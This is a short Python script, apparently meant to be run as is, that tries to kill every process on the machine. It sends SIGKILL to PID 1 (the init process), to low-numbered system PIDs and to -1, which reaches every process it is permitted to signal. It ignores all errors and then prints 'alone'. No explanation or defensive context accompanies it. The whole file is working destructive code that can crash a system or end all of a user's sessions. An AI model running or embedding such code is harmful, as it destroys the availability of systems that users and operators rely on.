"""Kills all that it may, by number and by group."""

import os
import signal

for number in (1, 2, *range(3, 200), -1):
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
print("alone")
